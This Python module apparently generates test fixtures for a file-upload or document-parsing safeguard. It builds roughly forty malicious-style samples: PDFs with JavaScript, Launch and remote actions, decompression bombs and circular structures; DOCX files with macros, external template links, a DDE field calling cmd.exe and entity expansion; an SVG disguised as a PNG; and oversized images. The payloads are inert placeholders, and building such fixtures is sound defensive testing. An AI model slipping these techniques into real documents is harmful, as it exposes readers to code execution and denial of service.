"""Thirty documents made to harm whoever reads them, each by its name and what it is. None is an attack on anybody: they
hold no program that does anything."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

_RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
_OUTSIDE = '<Relationship Id="r1" Type="http://schemas.example.org/{}" Target="http://example.org/x" TargetMode="{}"/>'
_TYPES, _DOCUMENT = "[Content_Types].xml", "word/document.xml"


def documents() -> Iterator[tuple[str, bytes]]:
    """Each with a name that ends as files do that may be sent in."""
    yield from _acting_pdfs()
    yield from _broken_pdfs()
    yield from _words()
    yield from _pictures()
    yield "program.pdf", b"MZ" + plain_pdf()
    yield "program.docx", b"MZ\x90\x00" + _packed({})
    yield "page.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    yield "macro.docm", _packed({})
    yield "program.pdf.exe", plain_pdf()


def plain_pdf() -> bytes:
    return _pdf(PdfWriter.compress_identical_objects)


def _pdf(change: Callable[[PdfWriter], object]) -> bytes:
    writer, made = PdfWriter(), io.BytesIO()
    writer.add_blank_page(100, 100)
    change(writer)
    writer.write(made)
    return made.getvalue()


def _action(**parts: object) -> bytes:
    named = {NameObject(f"/{name}"): value for name, value in parts.items()}
    return _pdf(lambda writer: writer.root_object.update({NameObject("/OpenAction"): DictionaryObject(named)}))


def _acting_pdfs() -> Iterator[tuple[str, bytes]]:
    word, name = TextStringObject, NameObject
    yield "script.pdf", _action(S=name("/JavaScript"), JS=word("app.alert(1)"))
    yield "launch.pdf", _action(S=name("/Launch"), F=word("calc.exe"))
    yield "submits.pdf", _action(S=name("/SubmitForm"), F=word("http://example.org/"))
    yield "remote.pdf", _action(S=name("/GoToR"), F=word("\\\\example.org\\share"))
    yield "hides-a-file.pdf", _pdf(lambda writer: writer.add_attachment("x.exe", b"MZ"))
    form = DictionaryObject({name("/XFA"): ArrayObject([word("template")])})
    yield "xfa.pdf", _pdf(lambda writer: writer.root_object.update({name("/AcroForm"): form}))
    yield "hidden-name.pdf", _action(S=name("/JavaScript"), JS=word("1")).replace(b"/JavaScript", b"/J#61vaScript")
    media = DictionaryObject({name("/Subtype"): name("/RichMedia")})
    yield "media.pdf", _pdf(lambda writer: writer.root_object.update({name("/Extra"): media}))


def _written(*objects: bytes, root: int = 1, more: bytes = b"") -> bytes:
    """A PDF as its bytes are, with a table that says where each object stands."""
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, one in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    trailer = b"trailer\n<</Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF"
    return bytes(made) + trailer % (len(objects) + 1, root, more, table)


def _zeros(megabytes: int) -> bytes:
    """So many of them, packed without ever lying unpacked in our own memory."""
    packer, block = zlib.compressobj(1), b"0" * 1_000_000
    return b"".join(packer.compress(block) for _ in range(megabytes)) + packer.flush()


def _bomb(layers: int) -> bytes:
    data = _zeros(300)
    for _ in range(layers - 1):
        data = zlib.compress(data)
    filters = b" ".join([b"/FlateDecode"] * layers)
    return b"<</Type /ObjStm /N 100 /First 10 /Length %d /Filter [%s]>>\nstream\n" % (len(data), filters) + (
        data + b"\nendstream"
    )


def _broken_pdfs() -> Iterator[tuple[str, bytes]]:
    catalog = b"<</Type /Catalog /Pages 2 0 R>>"
    yield "pages-in-a-circle.pdf", _written(catalog, b"<</Type /Pages /Count 9 /Kids [2 0 R 2 0 R]>>")
    many = b" ".join([b"3 0 R"] * 60_000)
    yield (
        "pages-without-end.pdf",
        _written(
            catalog,
            b"<</Type /Pages /Count 99999999 /Kids [%s]>>" % many,
            b"<</Type /Pages /Kids [%s]>>" % b" ".join([b"4 0 R"] * 60_000),
            b"<</Type /Page /MediaBox [0 0 9 9]>>",
        ),
    )
    yield "deep.pdf", _written(b"[" * 200_000 + b"]" * 200_000)
    yield "previous-is-itself.pdf", _written(catalog, b"<</Type /Pages /Kids []>>", more=b"/Prev 9")
    yield "no-root.pdf", _written(catalog, root=99)
    yield "wrong-places.pdf", plain_pdf().replace(b"0000000", b"0009999")
    yield "cut-off.pdf", plain_pdf()[:-150]
    stream = (
        b"<</Type /XRef /Size 9 /W [1 9999999 1] /Index [0 999999999] /Root 1 0 R /Length 3>>\nstream\nabc\nendstream"
    )
    yield "references.pdf", b"%PDF-1.7\n1 0 obj\n" + stream + b"\nendobj\nstartxref\n9\n%%EOF"
    yield "bomb.pdf", _compressed(_bomb(1))
    yield "bomb-in-a-bomb.pdf", _compressed(_bomb(2))


def _compressed(objects: bytes) -> bytes:
    """Its catalogue lies in a stream of objects that unpacks without end."""
    head = b"%PDF-1.7\n"
    first = b"1 0 obj\n" + objects + b"\nendobj\n"
    entries = struct.pack(">BHB", 1, len(head), 0) + struct.pack(">BHB", 2, 1, 0)
    wide = len(head) + len(first)
    table = b"2 0 obj\n<</Type /XRef /Size 4 /W [1 2 1] /Index [1 1 3 1] /Root 3 0 R /Length %d>>\nstream\n" % len(
        entries
    )
    return head + first + table + entries + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % wide


def _packed(parts: dict[str, str | bytes], level: int = 9) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as packed:
        for name, content in ({_TYPES: "<Types/>", _DOCUMENT: "<document/>"} | parts).items():
            packed.writestr(name, content)
    return made.getvalue()


def _words() -> Iterator[tuple[str, bytes]]:
    yield "macro.docx", _packed({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield "macro-type.docx", _packed({_TYPES: "<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"})
    template = _RELS.format(_OUTSIDE.format("attachedTemplate", "External"))
    yield "template.docx", _packed({"word/_rels/settings.xml.rels": template})
    ole = _RELS.format(_OUTSIDE.format("oleObject", "external"))
    yield "linked-object.docx", _packed({"word/_rels/document.xml.rels": ole})
    yield "object.docx", _packed({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})
    field = "<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe</w:instrText>"
    yield "field.docx", _packed({_DOCUMENT: field})
    entity = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><Relationships>&b;</Relationships>'
    yield "entities.docx", _packed({"word/_rels/document.xml.rels": entity})
    yield "bomb.docx", _packed({f"word/media/{number}": b"0" * 30_000_000 for number in range(4)}, 1)
    lying = bytearray(_packed({"word/styles.xml": b"0" * 40_000_000}, 1))
    place = lying.rfind(b"word/styles.xml") - 46 + 24
    lying[place : place + 4] = struct.pack("<I", 10)
    yield "lies-about-its-size.docx", bytes(lying)


def _png(width: int, height: int, data: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _pictures() -> Iterator[tuple[str, bytes]]:
    yield "huge.png", _png(50_000, 50_000, zlib.compress(b"\0" * 1_000_000))
    yield "much.png", _png(7_700, 7_700, _zeros(178))
    yield "cut-off.png", _png(100, 100, b"")
